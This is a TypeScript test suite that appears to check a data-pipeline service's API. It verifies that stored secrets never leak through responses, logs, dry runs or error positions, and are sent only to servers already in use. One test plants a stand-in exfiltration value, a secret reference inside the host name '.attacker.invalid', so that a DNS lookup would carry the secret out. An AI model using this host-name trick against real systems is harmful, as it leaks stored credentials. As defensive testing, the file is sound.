// Secrets are write-only: no response or log line carries a stored value (a `${NAME}` used as
// a host, a JSONata error position that would tell its length), and a dry run sends stored
// credentials only to the servers the stored pipeline already uses.
import { createServer, type Server } from 'node:net';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { connectionTester } from './net/test-connections.ts';
import { useApiFixture } from './testing/api-fixture.ts';

/** Every host a connection test was asked to reach. */
const triedHosts: string[] = [];
const realTester = connectionTester(2_000);
const api = useApiFixture({
  testConnections: (spec) => {
    triedHosts.push(spec.host);
    return realTester(spec);
  },
});
const CANARY_HOST = 'canary-host-7f3a9.invalid';
const CANARY_PASSWORD = 'canary-password-5be21';

/** A stand-in Redis that records every byte it receives and answers each command with +OK. */
let fake: Server;
let fakePort = 0;
let received = '';
beforeAll(async () => {
  fake = createServer((socket) => {
    socket.on('data', (chunk: Buffer) => {
      const text = chunk.toString('latin1');
      received += text;
      const commands = text.match(/\*\d+\r\n\$/g)?.length ?? 1;
      socket.write('+OK\r\n'.repeat(commands));
    });
    socket.on('error', () => undefined);
  });
  await new Promise<void>((resolve) => fake.listen(0, '127.0.0.1', resolve));
  const address = fake.address();
  if (address === null || typeof address === 'string') throw new Error('no port');
  fakePort = address.port;
});
afterAll(async () => {
  await new Promise((resolve) => fake.close(resolve));
});
beforeEach(async () => {
  await api.rdi.flushdb();
  received = '';
  await api.rdi.hset('sluice:secrets', {
    DB_HOST: CANARY_HOST,
    TARGET_PW: CANARY_PASSWORD,
    SOURCE_DB_PASSWORD: 'pw',
  });
});

function config(sourceHost: string, targetHost: string, targetPort: number): string {
  return `sources:
  pg:
    type: cdc
    connection:
      type: postgresql
      host: ${sourceHost}
      port: ${String(fakePort)}
      database: shop
      user: postgres
      password: \${SOURCE_DB_PASSWORD}
    schemas: [public]
    tables:
      people:
targets:
  target:
    connection:
      type: redis
      host: ${targetHost}
      port: ${String(targetPort)}
      password: \${TARGET_PW}
`;
}

function leaked(): string[] {
  const all = [...api.bodies, ...api.logs];
  return all.filter(
    (text) => text.toLowerCase().includes(CANARY_HOST) || text.includes(CANARY_PASSWORD),
  );
}

describe('secrets are write-only', () => {
  it('never quotes a secret used as a host in a dry run, introspection or the log', async () => {
    const text = config('${DB_HOST}', '${DB_HOST}', 6379);
    // Deployed first: a host that holds a secret is tried only where the stored pipeline goes.
    expect(
      (await api.call({ method: 'PUT', url: '/api/v2/pipelines/p', payload: { config: text } }))
        .statusCode,
    ).toBe(200);
    const dryRun = await api.call({
      method: 'PUT',
      url: '/api/v2/pipelines/p?dry_run=true',
      payload: { config: text },
    });
    expect(dryRun.statusCode).toBe(502);
    expect(dryRun.json()).toMatchObject({ code: 'CONNECTION_FAILED' });
    const introspected = await api.call({
      method: 'GET',
      url: '/api/v2/pipelines/p/source-schemas/pg',
    });
    expect(introspected.statusCode).toBe(502);
    expect(leaked()).toEqual([]);
  });

  it('does not look up a host that holds a secret unless the stored pipeline uses it', async () => {
    triedHosts.length = 0;
    // The lookup itself would carry the secret to the name's DNS servers.
    const text = config('${TARGET_PW}.attacker.invalid', '127.0.0.1', fakePort);
    const response = await api.call({
      method: 'POST',
      url: '/api/v2/pipelines?dry_run=true',
      payload: { name: 'fresh', config: text },
    });
    expect(response.statusCode).toBe(200);
    expect(response.json()).toMatchObject({ connections_tested: ['targets.target.connection'] });
    expect(triedHosts.filter((host) => host.includes(CANARY_PASSWORD))).toEqual([]);
  });

  it('reports a failing expression the same whatever the length of the secret in it', async () => {
    const job = `source:
  table: people
transform:
  - uses: add_field
    with:
      field: token
      language: jsonata
      expression: '"\${TOKEN}" & ) + 1'
`;
    const answers: string[] = [];
    for (const token of ['ab', 'abcdefghijklmnopqrstuvwxyz0123456789']) {
      await api.rdi.hset('sluice:secrets', 'TOKEN', token);
      const response = await api.call({
        method: 'PUT',
        url: '/api/v2/pipelines/p',
        payload: { config: config('127.0.0.1', '127.0.0.1', fakePort), jobs: { people: job } },
      });
      expect(response.statusCode).toBe(400);
      answers.push(response.body);
    }
    expect(answers[1]).toBe(answers[0]);
  });

  it('sends stored credentials only to the servers of the stored pipeline', async () => {
    const text = config('127.0.0.1', '127.0.0.1', fakePort);
    const first = await api.call({
      method: 'PUT',
      url: '/api/v2/pipelines/p?dry_run=true',
      payload: { config: text },
    });
    expect(first.statusCode).toBe(200);
    expect(received.toLowerCase()).toContain('ping');
    expect(received).not.toContain(CANARY_PASSWORD);

    // Once the pipeline is deployed with that server, its dry runs use the stored password.
    expect(
      (await api.call({ method: 'PUT', url: '/api/v2/pipelines/p', payload: { config: text } }))
        .statusCode,
    ).toBe(200);
    const second = await api.call({
      method: 'PUT',
      url: '/api/v2/pipelines/p?dry_run=true',
      payload: { config: text },
    });
    expect(second.statusCode).toBe(200);
    expect(received).toContain(CANARY_PASSWORD);
    // …but not another pipeline name's dry run with the same text.
    received = '';
    const other = await api.call({
      method: 'POST',
      url: '/api/v2/pipelines?dry_run=true',
      payload: { name: 'other', config: text },
    });
    expect(other.statusCode).toBe(200);
    expect(received).not.toContain(CANARY_PASSWORD);
  });
});
